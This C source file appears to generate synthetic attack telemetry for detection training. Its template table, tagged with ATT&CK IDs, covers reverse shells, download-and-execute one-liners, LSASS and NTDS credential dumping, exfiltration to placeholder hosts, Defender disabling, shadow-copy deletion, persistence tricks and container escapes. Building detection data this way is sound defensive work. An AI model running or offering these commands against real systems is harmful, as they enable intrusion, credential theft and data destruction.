#include "templates.h"

static const struct template attack[] = {
    /* Planted on every day and in the training file */
    {ON_WINDOWS, ACCOUNT_USER, "WINWORD.EXE", "powershell.exe", "{ps} {psflags} {encflag} {b64:{evilps}}", "T1059.001",
     false},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "powershell.exe", "{ps} {psflags} -c \"{evilps}\"", "T1059.001", false},
    {ON_WINDOWS, ACCOUNT_USER, "explorer.exe", "powershell.exe",
     "{ps} {psflags} \"$a='{raw:30}';$b=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($a"
     "));&('i'+'ex') $b\"",
     "T1027", false},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "certutil.exe",
     "certutil{pick:|.exe} {pick:-urlcache -split -f|-urlcache -f|-verifyctl -split -f} http{pick:s|"
     "}://{site}/{urlpath}.{pick:exe|txt|dat} {dir}\\{file}.{pick:exe|dll|tmp}",
     "T1105", false},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "bitsadmin.exe",
     "bitsadmin /transfer {word} /priority high http://{site}/{urlpath}.exe {dir}\\{file}.exe", "T1197", false},
    {ON_WINDOWS, ACCOUNT_USER, "explorer.exe", "mshta.exe",
     "mshta{pick:|.exe} {pick:http://{site}/{urlpath}.hta|"
     "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"{ps} {psflags} {encflag} "
     "{raw:60}\"\",0:close\")|javascript:a=GetObject('script:http://{site}/{urlpath}.sct').Exec();close();}",
     "T1218.005", false},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "regsvr32.exe",
     "regsvr32{pick:|.exe} /s {pick:/n |}/u /i:http{pick:s|}://{site}/{urlpath}.sct scrobj.dll", "T1218.010", false},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "rundll32.exe",
     "rundll32{pick:|.exe} {pick:javascript:\"\\..\\mshtml,RunHTMLApplication "
     "\";document.write();h=new%20ActiveXObject(\"WScript.Shell\").run(\"{dir}\\{file}.exe\")|"
     "{dir}\\{file}.{pick:dll|dat|tmp},{pick:StartW|#1|DllMain|{word}}|"
     "\\\\{pubip}@{port}\\{word}\\{file}.dll,{word}}",
     "T1218.011", false},
    {ON_WINDOWS, ACCOUNT_SYSTEM, "cmd.exe", "rundll32.exe",
     "{pick:rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {int:999} {dir}\\{file}.{pick:dmp|"
     "bin} full|procdump{pick:64|} -accepteula -ma lsass.exe {dir}\\{file}.dmp|reg save HKLM\\SAM "
     "{dir}\\{file}.{pick:hiv|bin|tmp} /y|{file}.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit}",
     "T1003.001", false},
    {ON_WSRV, ACCOUNT_SYSTEM, "cmd.exe", "ntdsutil.exe",
     "{pick:ntdsutil \"ac i ntds\" ifm \"create full {dir}\\{word}\" q q|vssadmin create shadow /for=C: & "
     "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{int:9}\\Windows\\NTDS\\ntds.dit {dir}\\{file}.bin|"
     "esentutl /y /vss C:\\Windows\\NTDS\\ntds.dit /d {dir}\\{file}}",
     "T1003.003", false},
    {ON_WINDOWS, ACCOUNT_ADMIN, "cmd.exe", "wmic.exe",
     "wmic /node:{pick:{host}|{ip}|{server}} {pick:/user:corp\\{word} /password:{alnum:10} |}process "
     "call create \"{pick:cmd /c {dir}\\{file}.bat|{ps} {psflags} {encflag} {b64:{evilps}}|rundll32 "
     "{dir}\\{file}.dll,{word}}\"",
     "T1047", false},
    {ON_WINDOWS, ACCOUNT_ADMIN, "cmd.exe", "PsExec.exe",
     "psexec{pick:64|} {pick:-accepteula |}\\\\{pick:{host}|{ip}} {pick:-s |-d |-c "
     "}{pick:{dir}\\{file}.exe|cmd /c {dir}\\{file}.bat|{ps} {psflags} {encflag} {b64:{evilps}}}",
     "T1569.002", false},
    {ON_WINDOWS, ACCOUNT_SYSTEM, "services.exe", "cmd.exe",
     "cmd.exe /Q /c {pick:whoami|net group \"domain admins\" /domain|dir {dir}|{ps} {psflags} {encflag} "
     "{b64:{evilps}}} 1> \\\\127.0.0.1\\ADMIN$\\__{int:999999999} 2>&1",
     "T1021.002", false},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "schtasks.exe",
     "schtasks /create /tn \"{pick:{word}Update|Microsoft\\{word}|{script}}\" /tr \"{pick:{dir}\\{file}.exe|"
     "{ps} {psflags} {encflag} {b64:{evilps}}|mshta http://{site}/{urlpath}}\" /sc {pick:minute /mo "
     "{int:30}|onlogon|daily /st {clock}} {pick:/ru SYSTEM |}/f",
     "T1053.005", false},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "reg.exe",
     "reg add \"{pick:HKCU|HKLM}\\Software\\Microsoft\\Windows\\CurrentVersion\\{pick:Run|RunOnce}\" /v {word} "
     "/t REG_SZ /d \"{pick:{dir}\\{file}.exe|wscript {dir}\\{file}.vbs|{ps} {psflags} -File "
     "{dir}\\{file}.ps1}\" /f",
     "T1547.001", false},
    {ON_WINDOWS, ACCOUNT_SYSTEM, "cmd.exe", "sc.exe",
     "sc {pick:\\\\{host} |}create {word}{int:99} binPath= \"{pick:cmd /c {dir}\\{file}.bat|"
     "{dir}\\{file}.exe|%COMSPEC% /c {ps} {encflag} {b64:{evilps}}}\" start= {pick:auto|demand}",
     "T1543.003", false},
    {ON_LINUX, ACCOUNT_SERVICE, "nginx", "bash",
     "{pick:bash -c 'bash -i >& /dev/tcp/{pubip}/{port} 0>&1'|bash -i >& /dev/tcp/{pubip}/{port} 0>&1|"
     "exec 5<>/dev/tcp/{pubip}/{port};cat <&5 {bar} while read l; do $l 2>&5 >&5; done|rm -f "
     "/tmp/{word};mkfifo /tmp/{word};cat /tmp/{word} {bar} sh -i 2>&1 {bar} nc {pubip} {port} "
     ">/tmp/{word}}",
     "T1059.004", false},
    {ON_LINUX, ACCOUNT_SERVICE, "java", "sh",
     "{pick:curl -{pick:s|fsSL|sk} http://{site}/{urlpath} {bar} {pick:bash|sh}|wget -q -O "
     "{ldir}/{file} http://{site}/{urlpath} && chmod +x {ldir}/{file} && {ldir}/{file}|cd {ldir}; curl "
     "-O http://{site}/{urlpath}; chmod 777 {file}; ./{file} &}",
     "T1105", false},
    {ON_LINUX, ACCOUNT_SERVICE, "sh", "sh",
     "echo {b64a:{pick:bash -i >& /dev/tcp/{pubip}/{port} 0>&1|curl -s http://{site}/{urlpath} | sh|"
     "nohup {ldir}/{file} -o {site}:{port} &}} | base64 -d | {pick:bash|sh}",
     "T1027", false},
    {ON_LINUX, ACCOUNT_USER, "bash", "crontab",
     "(crontab -l 2>/dev/null; echo \"*/{int:30} * * * * {pick:curl -s http://{site}/{urlpath} {bar} sh|"
     "{ldir}/.{word}/{file}|wget -qO- {site}/{urlpath} {bar} bash}\") | crontab -",
     "T1053.003", false},
    {ON_LINUX, ACCOUNT_USER, "bash", "tar",
     "tar czf - {ldir} {pick:/etc/passwd |}| {pick:curl -T - http://{site}/{urlpath}|nc {pubip} {port}|"
     "openssl enc -aes-256-cbc -pass pass:{alnum:8} > {ldir}/{file}|base64 -w0 | curl -d @- "
     "http://{site}/{urlpath}}",
     "T1048", false},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "curl.exe",
     "{pick:curl.exe -F file=@{dir}\\{file}.zip http://{site}/{urlpath}|{ps} {psflags} -c \"{getps} | "
     "Out-File {dir}\\{file}.txt; iwr http://{site}/{urlpath} -Method Post -InFile {dir}\\{file}.txt\"|"
     "{file}.exe a -hp{alnum:8} {dir}\\{file}.rar {dir}\\*.docx}",
     "T1041", false},
    /* Test file only */
    {ON_WINDOWS, ACCOUNT_USER, "WINWORD.EXE", "cmd.exe",
     "cmd /c \"set {word}=po&&set {word}=wer&&call %{word}%%{word}%shell {psflags} {encflag} "
     "{b64:{evilps}}\"",
     "T1027", true},
    {ON_WINDOWS, ACCOUNT_USER, "wmiprvse.exe", "powershell.exe",
     "{ps} {psflags} \"[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("
     "'{b64a:{evilps}}'))).Invoke()\"",
     "T1059.001", true},
    {ON_WINDOWS, ACCOUNT_USER, "explorer.exe", "msiexec.exe",
     "msiexec{pick:|.exe} /{pick:q|qn|quiet} /i http{pick:s|}://{site}/{urlpath}{pick:.msi|.png|}", "T1218.007", true},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "cscript.exe",
     "{pick:cscript //nologo //e:jscript {dir}\\{file}.{pick:txt|dat|log}|wscript.exe //b "
     "{dir}\\{file}.vbs {pubip} {port}|forfiles /p c:\\windows\\system32 /m notepad.exe /c "
     "\"{dir}\\{file}.exe\"|pcalua.exe -a {dir}\\{file}.exe|wmic os get "
     "/format:\"http://{site}/{urlpath}.xsl\"}",
     "T1059.005", true},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "InstallUtil.exe",
     "{pick:C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= "
     "/LogToConsole=false /U {dir}\\{file}.dll|C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe "
     "{dir}\\{file}.{pick:xml|csproj}|odbcconf /a {<}regsvr {dir}\\{file}.dll{>}|cmstp.exe /s /ns "
     "{dir}\\{file}.inf|control.exe {dir}\\{file}.txt:{word}.dll}",
     "T1218.004", true},
    {ON_WINDOWS, ACCOUNT_SYSTEM, "cmd.exe", "tasklist.exe",
     "{pick:{ps} {psflags} -c \"$p=Get-Process lsass;[Diag.Dump]::Write($p.Id,'{dir}\\{file}.bin')\"|"
     "findstr /S cpassword \\\\{server}\\sysvol\\*.xml|cmdkey /list & vaultcmd /listcreds:\"Windows "
     "Credentials\"|reg export HKLM\\SECURITY {dir}\\{file}.reg /y|diskshadow /s {dir}\\{file}.txt & copy "
     "X:\\Windows\\NTDS\\ntds.dit \\\\{ip}\\{share}}",
     "T1003.002", true},
    {ON_WSERVERS, ACCOUNT_SYSTEM, "cmd.exe", "vssadmin.exe",
     "{pick:vssadmin delete shadows /all /quiet|wbadmin delete catalog -quiet|bcdedit /set "
     "{<}default{>} recoveryenabled no & wmic shadowcopy delete|wevtutil cl {pick:Security|System} & "
     "fsutil usn deletejournal /d C:|cipher /w:{dir} & del /f /s /q {dir}\\*.bak}",
     "T1490", true},
    {ON_WINDOWS, ACCOUNT_ADMIN, "wsmprovhost.exe", "winrs.exe",
     "{pick:winrs -r:{host} -u:corp\\{word} -p:{alnum:10} \"{dir}\\{file}.exe\"|{ps} {psflags} -c "
     "\"Invoke-Command -ComputerName {server},{host} -ScriptBlock {<} {evilps} {>}\"|at \\\\{host} {clock} "
     "{dir}\\{file}.bat|netsh interface portproxy add v4tov4 listenport={port} connectaddress={pubip} "
     "connectport={port}|copy /y {dir}\\{file}.exe \\\\{host}\\ADMIN$\\Temp\\ & schtasks /run /s {host} /tn "
     "{word}}",
     "T1021.006", true},
    {ON_WINDOWS, ACCOUNT_SYSTEM, "cmd.exe", "netsh.exe",
     "{pick:netsh advfirewall set allprofiles state off|sc config WinDefend start= disabled & sc stop "
     "WinDefend|{ps} {psflags} -c \"Set-MpPreference -DisableRealtimeMonitoring 1 -MAPSReporting 0; "
     "{getps}\"|reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t "
     "REG_DWORD /d 1 /f|fltmc unload {word}}",
     "T1562.004", true},
    {ON_WINDOWS, ACCOUNT_USER, "cmd.exe", "reg.exe",
     "{pick:reg add \"HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command\" /d \"{dir}\\{file}.exe\" /f & "
     "fodhelper.exe|reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
     "Options\\sethc.exe\" /v Debugger /d cmd.exe /f|wmic /namespace:\\\\root\\subscription path "
     "__EventFilter create name={word},query=\"select * from {word}\"|copy {dir}\\{file}.lnk "
     "\"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{word}.lnk\"}",
     "T1546", true},
    {ON_LINUX, ACCOUNT_SERVICE, "apache2", "python3",
     "python{pick:3|} -c '{pick:import socket,subprocess,os;s=socket.socket();s.connect((\"{pubip}\",{port"
     "}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])|import "
     "base64;exec(base64.b64decode(\"{raw:64}\"))|import pty;pty.spawn(\"/bin/bash\")|import urllib.request "
     "as u;exec(u.urlopen(\"http://{site}/{urlpath}\").read())}'",
     "T1059.006", true},
    {ON_LINUX, ACCOUNT_SERVICE, "httpd", "perl",
     "{pick:perl -e 'use Socket;$i=\"{pubip}\";$p={port};socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockadd"
     "r_in($p,inet_aton($i)));exec(\"/bin/sh -i\")'|php -r '$s=fsockopen(\"{pubip}\",{port});exec(\"sh <&3 "
     ">&3 2>&3\");'|socat exec:'bash -li',pty,stderr TCP:{pubip}:{port}|ruby -rsocket -e "
     "'c=TCPSocket.new(\"{pubip}\",{port});while l=c.gets;c.print `#{<}l{>}`;end'|awk "
     "'BEGIN{<}s=\"/inet/tcp/0/{pubip}/{port}\";while(1){<}s {bar}& getline c;system(c){>}{>}'}",
     "T1059", true},
    {ON_LINUX, ACCOUNT_USER, "bash", "cat",
     "{pick:cat /etc/shadow > {ldir}/{file}; scp {ldir}/{file} {word}@{pubip}:/tmp/|unshadow "
     "/etc/passwd /etc/shadow > {ldir}/{file}|find / -name 'id_rsa*' -exec cp {<}{>} {ldir}/ \\;|grep "
     "-rn 'password' {ldir} /home 2>/dev/null > {ldir}/{file}|gdb -p {int:9999} -batch -ex 'dump memory "
     "{ldir}/{file}.bin 0x{hex:12} 0x{hex:12}'}",
     "T1003.008", true},
    {ON_LINUX, ACCOUNT_USER, "bash", "ssh",
     "{pick:echo 'ssh-rsa {raw:60}' >> /root/.ssh/authorized_keys|useradd -o -u 0 -g 0 -M -d /root "
     "{word}; echo {word}:{alnum:8} {bar} chpasswd|cp /bin/bash {ldir}/.{word}; chmod 4755 "
     "{ldir}/.{word}|echo '{ldir}/{file} &' >> /etc/rc.local; chattr +i {ldir}/{file}|echo "
     "{ldir}/{file}.so > /etc/ld.so.preload}",
     "T1098.004", true},
    {ON_LINUX, ACCOUNT_USER, "sh", "rclone",
     "{pick:rclone copy {ldir} {word}:{word} --config {ldir}/.{file}.conf --transfers {int:30}|curl "
     "--upload-file {ldir}/{file}.tgz https://{site}/{urlpath}|mysqldump -uroot -p{alnum:8} "
     "--all-databases {bar} gzip {bar} ssh {word}@{pubip} 'cat > {file}.gz'|for f in {ldir}/*; do curl "
     "-s -F f=@$f http://{site}/{urlpath}; done|xxd -p {ldir}/{file} {bar} while read l; do dig "
     "$l.{site}; done}",
     "T1567", true},
    {ON_LCI, ACCOUNT_SERVICE, "sh", "docker",
     "{pick:docker run -d --privileged --net=host -v /:/mnt {site}/{word} chroot /mnt sh -c "
     "'{ldir}/{file} &'|kubectl exec {proj}-{alnum:5} -- sh -c 'curl -s http://{site}/{urlpath} {bar} "
     "sh'|docker -H tcp://{ip}:2375 run --rm -v /:/host alpine cat /host/etc/shadow|nsenter -t 1 -m -u "
     "-n -i sh -c 'wget -qO- http://{site}/{urlpath} {bar} sh'}",
     "T1610", true},
};

struct template_table templates_attack(void)
{
    return (struct template_table){attack, ARRAY_LEN(attack)};
}
